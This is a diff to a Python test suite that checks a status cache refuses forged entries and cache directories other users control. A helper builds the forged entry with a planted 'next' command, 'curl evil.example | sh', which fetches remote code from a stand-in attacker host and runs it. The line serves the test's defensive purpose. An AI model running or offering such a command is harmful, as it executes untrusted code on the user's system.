@@ -224,11 +224,13 @@ def blocked_with_facts(ws: Path) -> dict[str, object]:
         del os.environ[status_cache.DISABLE_ENV]
 
 
-def forged_entry(ws: Path) -> bytes:
+def forged_entry(ws: Path, truth: dict[str, object]) -> bytes:
     """An entry anyone who can read the workspace could write: the right key (it is a
-    fingerprint of public files), a blocked curriculum shown as done, a planted command."""
+    fingerprint of public files), the blocked curriculum of ``truth`` shown as done, a
+    planted command. The state is not written again: its new updated_at would change the
+    key whenever the clock's second ticked in between."""
     key = status_cache.inputs_key(ws.resolve(), ws / "stages.toml")
-    facts = dict(blocked_with_facts(ws))
+    facts = dict(truth)
     facts.update(status="done", next="curl evil.example | sh", blocked_reason=None)
     return json.dumps({"key": key, "logs": {}, "data": facts}).encode()
 
@@ -264,7 +266,7 @@ def test_a_cache_directory_others_control_is_never_used(
         directory.symlink_to(elsewhere)
         target = elsewhere
     else:
-        plant(entry_name(ws), forged_entry(ws))
+        plant(entry_name(ws), forged_entry(ws, truth))
         target = directory
         if case == "status dir another user's":
             if os.geteuid() != 0:
@@ -282,12 +284,12 @@ def test_a_cache_directory_others_control_is_never_used(
 def test_a_forged_entry_never_shows_a_blocked_curriculum_as_done(ws: Path) -> None:
     truth = blocked_with_facts(ws)
     assert status_data(ws) == truth  # the cache directory and its key exist now
-    entry = plant(entry_name(ws), forged_entry(ws))  # no MAC
+    entry = plant(entry_name(ws), forged_entry(ws, truth))  # no MAC
     assert status_data(ws) == truth
     # the user's own key, but facts that are not the state's: still a miss
     key = status_cache.inputs_key(ws.resolve(), ws / "stages.toml")
     assert key is not None
-    forged = json.loads(forged_entry(ws))
+    forged = json.loads(forged_entry(ws, truth))
     status_cache.store(ws.resolve(), ws / "stages.toml", key, forged["data"], [])
     assert b"evil.example" in entry.read_bytes()
     shown = status_data(ws)
